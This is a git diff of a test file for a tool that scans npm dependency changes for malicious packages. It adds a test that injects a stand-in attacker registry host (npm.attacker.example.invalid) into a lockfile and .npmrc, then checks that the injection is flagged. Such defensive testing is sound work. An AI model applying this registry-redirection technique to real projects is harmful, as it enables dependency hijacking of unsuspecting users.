@@ -3,7 +3,7 @@
  * adds or changes is scanned, every change is listed, the base is read from git without a
  * checkout, and no git hook or repository-configured program runs.
  */
-import { chmod, copyFile, writeFile } from 'node:fs/promises'
+import { chmod, copyFile, readFile, rm, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { createSandbox, describeRun, findingsOf, packageNamed, registryUrl, scanJson, tarsier, type Sandbox } from '../helpers/cli.ts'
@@ -53,6 +53,24 @@ describe('tarsier diff --base <git-ref>', () => {
     expect(report.packages.map((p) => `${p.name}@${p.version}`).sort()).toEqual([`${STEALER}@1.0.0`, `${TOOLKIT}@1.0.0`])
     expect(packageNamed(report, STEALER)).toMatchObject({ verdict: 'malicious', change: { kind: 'added' } })
     expect(findingsOf(packageNamed(report, STEALER), 'env-exfiltration')[0]).toMatchObject({ severity: 'critical', file: 'steal.js' })
+  })
+
+  it("a change cannot bring its own registry: the base's .npmrc is used, so an injected host is still flagged", async () => {
+    const lockfilePath = join(repo, 'package-lock.json')
+    const original = await readFile(lockfilePath, 'utf8')
+    const lockfile = JSON.parse(original) as { packages: Record<string, { resolved?: string }> }
+    const toolkit = lockfile.packages[`node_modules/${TOOLKIT}`]!
+    toolkit.resolved = toolkit.resolved!.replace(new URL(registryUrl()).host, 'npm.attacker.example.invalid')
+    await writeFile(lockfilePath, JSON.stringify(lockfile, null, 2))
+    await writeFile(join(repo, '.npmrc'), 'registry=https://npm.attacker.example.invalid/\n')
+    try {
+      const run = await diff(['--base', 'HEAD~1', '--fetch-retries', '0'])
+      expect(run.report.warnings.join('\n')).toContain('.npmrc differs from HEAD~1')
+      expect(findingsOf(packageNamed(run.report, TOOLKIT), 'lockfile-injection')[0]).toMatchObject({ severity: 'high' })
+    } finally {
+      await writeFile(lockfilePath, original)
+      await rm(join(repo, '.npmrc'))
+    }
   })
 
   it('the table lists the changes before the findings', async () => {
